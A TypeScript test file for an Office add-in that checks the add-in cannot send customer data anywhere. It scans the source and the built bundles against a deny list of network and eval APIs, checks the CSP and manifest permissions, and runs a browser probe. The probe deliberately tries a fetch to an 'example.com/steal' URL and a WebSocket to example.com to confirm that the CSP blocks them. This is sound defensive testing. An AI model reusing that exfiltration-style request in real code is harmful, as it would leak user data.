/**
 * No network, least privilege. An add-in that reads customer data must not be able to send it anywhere.
 *
 * The rules, precisely:
 * 1. Our own code (src/**) uses no network or dynamic-code API: no identifier fetch, XMLHttpRequest, WebSocket,
 *    EventSource, sendBeacon, RTCPeerConnection, importScripts, Worker/SharedWorker/serviceWorker, eval, no call or
 *    `new` of Function, no dynamic import(). Checked on the TypeScript syntax tree, so comments and strings that
 *    mention these words do not count and no use can hide behind formatting.
 * 2. The built bundles (dist/*.js: ours plus React, Fluent UI and the other libraries) contain none of those as
 *    code either (checked by pattern on the minified output), except the occurrences listed in ALLOWED below,
 *    each with its reason; a new occurrence fails until someone reads it and lists it.
 * 3. Every URL literal in the bundles is in URL_ALLOWED (XML namespaces and documentation links that are
 *    compared or shown, never requested).
 * 4. The task pane (which is also the functions' page: shared runtime) carries a Content-Security-Policy that
 *    allows scripts from this origin and Office's script host only, connections to this origin only, no eval,
 *    no plugins; every script it loads is allowed by it; and in a real browser, fetch, WebSocket and eval are
 *    blocked by it.
 * 5. The manifest asks for ReadWriteDocument and nothing more, and trusts no other domain (AppDomains empty).
 */
import * as fs from "fs";
import * as http from "http";
import * as os from "os";
import * as path from "path";
import * as ts from "typescript";
import { parseStringPromise } from "xml2js";
import { DIST, ROOT, distFile } from "./harness/runtime";

const NETWORK_IDENTIFIERS = [
  "fetch",
  "XMLHttpRequest",
  "WebSocket",
  "EventSource",
  "sendBeacon",
  "RTCPeerConnection",
  "importScripts",
  "Worker",
  "SharedWorker",
  "serviceWorker",
  "eval",
];

function sourceFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) return sourceFiles(p);
    return /\.(ts|tsx)$/.test(e.name) && !e.name.endsWith(".d.ts") ? [p] : [];
  });
}

/** Uses of network and dynamic-code APIs in one source file, as "file:line: what". */
function forbiddenUses(file: string): string[] {
  const text = fs.readFileSync(file, "utf8");
  const sf = ts.createSourceFile(
    file,
    text,
    ts.ScriptTarget.Latest,
    true,
    file.endsWith(".tsx") ? ts.ScriptKind.TSX : ts.ScriptKind.TS
  );
  const found: string[] = [];
  const at = (node: ts.Node, what: string) =>
    found.push(
      `${path.relative(ROOT, file)}:${sf.getLineAndCharacterOfPosition(node.getStart()).line + 1}: ${what}`
    );
  const visit = (node: ts.Node) => {
    if (ts.isIdentifier(node) && NETWORK_IDENTIFIERS.includes(node.text)) at(node, node.text);
    if (
      (ts.isCallExpression(node) || ts.isNewExpression(node)) &&
      ts.isIdentifier(node.expression) &&
      node.expression.text === "Function"
    ) {
      at(node, "Function constructor");
    }
    if (ts.isCallExpression(node) && node.expression.kind === ts.SyntaxKind.ImportKeyword)
      at(node, "dynamic import()");
    ts.forEachChild(node, visit);
  };
  visit(sf);
  return found;
}

/** Patterns that are network or dynamic code in minified JavaScript. */
const BUNDLE_PATTERNS: Array<[string, RegExp]> = [
  ["fetch call", /(?<![\w$.])fetch\s*\(|\.fetch\s*\(/g],
  ["XMLHttpRequest", /\bXMLHttpRequest\b/g],
  ["WebSocket", /\bWebSocket\b/g],
  ["EventSource", /\bEventSource\b/g],
  ["sendBeacon", /\bsendBeacon\b/g],
  ["RTCPeerConnection", /\bRTCPeerConnection\b/g],
  ["importScripts", /\bimportScripts\b/g],
  ["Worker", /\bnew\s+(?:Shared)?Worker\s*\(|\bserviceWorker\b/g],
  ["eval", /(?<![\w$.])eval\s*\(/g],
  ["Function constructor", /(?<![\w$.])(?:new\s+)?Function\s*\(/g],
  ["dynamic script element", /createElement\(\s*["']script["']\s*\)/g],
  ["dynamic import", /(?<![\w$.])import\s*\(/g],
];

/** Occurrences in the bundles that are not network or dynamic code, with the reason. None today. */
const ALLOWED: Array<{ file: string; what: string; context: RegExp; reason: string }> = [];

/** URL literals the bundles may contain: compared or shown to people, never requested. */
const URL_ALLOWED: Array<[RegExp, string]> = [
  [
    /^http:\/\/www\.w3\.org\/(1999\/xhtml|2000\/svg|1999\/xlink|XML\/1998\/namespace|1998\/Math\/MathML|2000\/xmlns\/?)$/,
    "XML namespace names (React DOM)",
  ],
  [
    /^https:\/\/reactjs\.org\/docs\/error-decoder\.html\?invariant=$/,
    "link printed in React's minified error messages",
  ],
  [/^https:\/\/react\.dev\/errors\//, "link printed in React's minified error messages"],
];

const bundles = () => fs.readdirSync(DIST).filter((f) => f.endsWith(".js"));

describe("our own code uses no network or dynamic-code API", () => {
  it("finds no fetch, XHR, WebSocket, EventSource, sendBeacon, worker, eval, Function or import() in src/", () => {
    const files = sourceFiles(path.join(ROOT, "src"));
    expect(files.length).toBeGreaterThan(10);
    expect(files.flatMap(forbiddenUses)).toEqual([]);
  });

  it("would notice one (the checker itself)", () => {
    const tmp = path.join(os.tmpdir(), `ltv-quality-probe-${process.pid}.ts`);
    fs.writeFileSync(
      tmp,
      `// fetch( in a comment is fine\nconst s = "eval(";\nexport const f = () => fetch("https://x");\nexport const g = new Function("return 1");\nexport const h = () => import("./x");\nexport const w = (o: { eval: number }) => o.eval;\n`
    );
    try {
      expect(forbiddenUses(tmp).map((s) => s.replace(/^.*?:(\d+): /, "$1: "))).toEqual([
        "3: fetch",
        "4: Function constructor",
        "5: dynamic import()",
        "6: eval",
        "6: eval",
      ]);
    } finally {
      fs.rmSync(tmp);
    }
  });
});

describe("the built bundles contain no network or dynamic code", () => {
  it("scans every dist/*.js, and only the listed occurrences remain", () => {
    const files = bundles();
    expect(files).toEqual(expect.arrayContaining(["functions.js", "taskpane.js"]));
    const unexpected: string[] = [];
    for (const file of files) {
      const text = fs.readFileSync(path.join(DIST, file), "utf8");
      for (const [what, re] of BUNDLE_PATTERNS) {
        for (const m of text.matchAll(re)) {
          const context = text.slice(Math.max(0, m.index! - 80), m.index! + 80);
          if (!ALLOWED.some((a) => a.file === file && a.what === what && a.context.test(context)))
            unexpected.push(`${file}: ${what}: …${context}…`);
        }
      }
    }
    expect(unexpected).toEqual([]);
  });

  it("contains only URLs that are names or links for people, never endpoints", () => {
    const unexpected: string[] = [];
    for (const file of bundles()) {
      const text = fs.readFileSync(path.join(DIST, file), "utf8");
      for (const m of text.matchAll(/(?:https?|wss?|ftp):\/\/[^\s"'`)\\]*/g)) {
        if (!URL_ALLOWED.some(([re]) => re.test(m[0]))) unexpected.push(`${file}: ${m[0]}`);
      }
    }
    expect(unexpected).toEqual([]);
  });

  it("the pattern scan catches network code in a bundle (the checker itself)", () => {
    const sample =
      'var a=window.fetch("https://x"),b=new XMLHttpRequest,c=eval("1"),d=new Function("x"),e=Function("y"),prefetch=1,f=o.evaluate(1)';
    const hits = BUNDLE_PATTERNS.flatMap(([what, re]) => [...sample.matchAll(re)].map(() => what));
    expect(hits.sort()).toEqual([
      "Function constructor",
      "Function constructor",
      "XMLHttpRequest",
      "eval",
      "fetch call",
    ]);
  });
});

/** The directives of the CSP meta tag of a page, as a map of directive → sources. */
function cspOf(html: string): Map<string, string[]> {
  const m =
    /<meta[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*content=(?:"([^"]*)"|'([^']*)')[^>]*>/i.exec(
      html
    );
  if (!m) throw new Error("no Content-Security-Policy meta tag");
  const policy = m[1] ?? m[2];
  return new Map(
    policy
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name.toLowerCase(), sources])
  );
}

describe("the task pane's Content-Security-Policy (the functions share its page)", () => {
  const html = fs.readFileSync(distFile("taskpane.html"), "utf8");
  const csp = cspOf(html);

  it("allows scripts from this origin and Office's script host only, connections to this origin only", () => {
    expect(csp.get("default-src")).toEqual(["'self'"]);
    expect(csp.get("script-src")?.sort()).toEqual([
      "'self'",
      "https://appsforoffice.microsoft.com",
    ]);
    expect(csp.get("connect-src")).toEqual(["'self'"]);
    expect(csp.get("img-src")?.sort()).toEqual(["'self'", "data:"]);
    expect(csp.get("style-src")?.sort()).toEqual(["'self'", "'unsafe-inline'"]);
    expect(csp.get("object-src")).toEqual(["'none'"]);
  });

  it("allows no eval, no inline script, no wildcard, no plain http anywhere", () => {
    for (const [name, sources] of csp) {
      for (const s of sources) {
        expect([name, s]).not.toEqual([name, "'unsafe-eval'"]);
        expect([name, s]).not.toEqual([name, "*"]);
        expect(s.startsWith("http:")).toBe(false);
        expect(/^https?:\/\/\*/.test(s)).toBe(false);
      }
    }
    expect(csp.get("script-src")).not.toContain("'unsafe-inline'");
  });

  it("comes before any script, and every script of the page is allowed by it", () => {
    expect(html.search(/Content-Security-Policy/i)).toBeLessThan(html.search(/<script/i));
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThanOrEqual(3);
    for (const [, attrs, body] of scripts) {
      expect(body.trim()).toBe(""); // inline code would be blocked
      const src = /src=["']?([^"'\s>]+)/.exec(attrs)?.[1] ?? "";
      const url = new URL(src, "https://localhost:3000/");
      expect(["https://localhost:3000", "https://appsforoffice.microsoft.com"]).toContain(
        url.origin
      );
    }
  });

  it("the help page has a policy of its own that loads nothing from elsewhere", () => {
    const help = cspOf(fs.readFileSync(distFile("help.html"), "utf8"));
    expect(help.get("default-src")).toEqual(["'self'"]);
    expect(help.get("script-src") ?? help.get("default-src")).not.toContain("'unsafe-eval'");
  });
});

describe("the manifest asks for the least it needs", () => {
  for (const [label, file] of [
    ["source manifest.xml", path.join(ROOT, "manifest.xml")],
    ["built dist/manifest.xml", path.join(DIST, "manifest.xml")],
  ] as const) {
    it(`${label}: ReadWriteDocument only, AppDomains empty, no other origin`, async () => {
      const xml = fs.readFileSync(file, "utf8");
      const doc = await parseStringPromise(xml);
      expect(doc.OfficeApp.Permissions).toEqual(["ReadWriteDocument"]);
      const domains = doc.OfficeApp.AppDomains ?? [""];
      expect(
        domains.every(
          (d: unknown) =>
            d === "" || (typeof d === "object" && d !== null && Object.keys(d).length === 0)
        )
      ).toBe(true);
      expect(xml.replace(/<!--[\s\S]*?-->/g, "")).not.toMatch(/<AppDomain>/);
      const origins = new Set(
        [...xml.matchAll(/(?:DefaultValue|Value)="(https?:[^"]+)"/g)].map(
          (m) => new URL(m[1]).origin
        )
      );
      expect(origins.size).toBe(1);
    });
  }
});

const CHROMIUM = "/usr/bin/chromium";

/** Tries what the policy forbids, from a script of the page, and records what happened in globalThis.__probe. */
const PROBE = `(async function () {
  var violations = [];
  document.addEventListener("securitypolicyviolation", function (e) { violations.push(e.violatedDirective + " " + e.blockedURI); });
  var results = {};
  try { await fetch("https://example.com/steal?x=1"); results.fetch = "sent"; } catch (e) { results.fetch = "refused: " + e.name; }
  try { new WebSocket("wss://example.com/socket"); results.websocket = "opened"; } catch (e) { results.websocket = "refused: " + e.name; }
  try { (0, eval)("1 + 1"); results.eval = "ran"; } catch (e) { results.eval = "refused: " + e.name; }
  try { new Function("return 1")(); results.Function = "ran"; } catch (e) { results.Function = "refused: " + e.name; }
  try { await fetch("/functions.json"); results.sameOrigin = "allowed"; } catch (e) { results.sameOrigin = "refused: " + e.name; }
  await new Promise(function (r) { setTimeout(r, 300); });
  globalThis.__probe = { results: results, violations: violations };
})();`;
const browserIt = fs.existsSync(CHROMIUM) ? it : it.skip;

describe("in a real browser, the policy blocks what the rules forbid", () => {
  browserIt(
    "fetch and WebSocket to another origin and eval are refused on the task pane page",
    async () => {
      const server = http.createServer((req, res) => {
        if (req.url === "/__probe.js")
          return void res.writeHead(200, { "content-type": "application/javascript" }).end(PROBE);
        if (req.url === "/__probe.html") {
          const page = fs
            .readFileSync(path.join(DIST, "taskpane.html"), "utf8")
            .replace("</body>", '<script src="__probe.js"></script></body>');
          return void res.writeHead(200, { "content-type": "text/html" }).end(page);
        }
        const file = path.join(
          DIST,
          decodeURIComponent(new URL(req.url ?? "/", "http://x").pathname)
        );
        if (!file.startsWith(DIST) || !fs.existsSync(file) || fs.statSync(file).isDirectory())
          return void res.writeHead(404).end();
        res
          .writeHead(200, {
            "content-type": file.endsWith(".html") ? "text/html" : "application/javascript",
          })
          .end(fs.readFileSync(file));
      });
      await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
      const base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
      const { chromium } = await import("playwright-core");
      const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
      try {
        const page = await browser.newPage();
        const requested: string[] = [];
        await page.route("**/*", (route) => {
          const url = route.request().url();
          if (url.startsWith(base)) return route.continue();
          requested.push(url);
          // Office's script host: an empty stand-in, so the page loads without the network
          if (url.startsWith("https://appsforoffice.microsoft.com/"))
            return route.fulfill({ contentType: "application/javascript", body: "" });
          return route.abort();
        });
        // the built task pane with one more same-origin script, the probe: what it may do is what the page's own
        // code may do (code run through the debugger protocol would not be held to the policy)
        await page.goto(`${base}/__probe.html`);
        await page.waitForFunction(
          () => (globalThis as unknown as { __probe?: object }).__probe !== undefined,
          undefined,
          { timeout: 10_000 }
        );
        const outcome = (await page.evaluate(
          () => (globalThis as unknown as { __probe: object }).__probe
        )) as {
          results: Record<string, string>;
          violations: string[];
        };
        expect(outcome.results.fetch).toMatch(/^refused/);
        expect(outcome.results.eval).toBe("refused: EvalError");
        expect(outcome.results.Function).toBe("refused: EvalError");
        expect(outcome.results.sameOrigin).toBe("allowed");
        expect(outcome.violations.join("\n")).toMatch(/connect-src https:\/\/example\.com/);
        expect(outcome.violations.join("\n")).toMatch(/connect-src wss:\/\/example\.com/);
        // nothing but Office's script host was even asked for
        expect(
          requested.filter((u) => !u.startsWith("https://appsforoffice.microsoft.com/"))
        ).toEqual([]);
      } finally {
        await browser.close();
        await new Promise((r) => server.close(r));
      }
    },
    60_000
  );
});
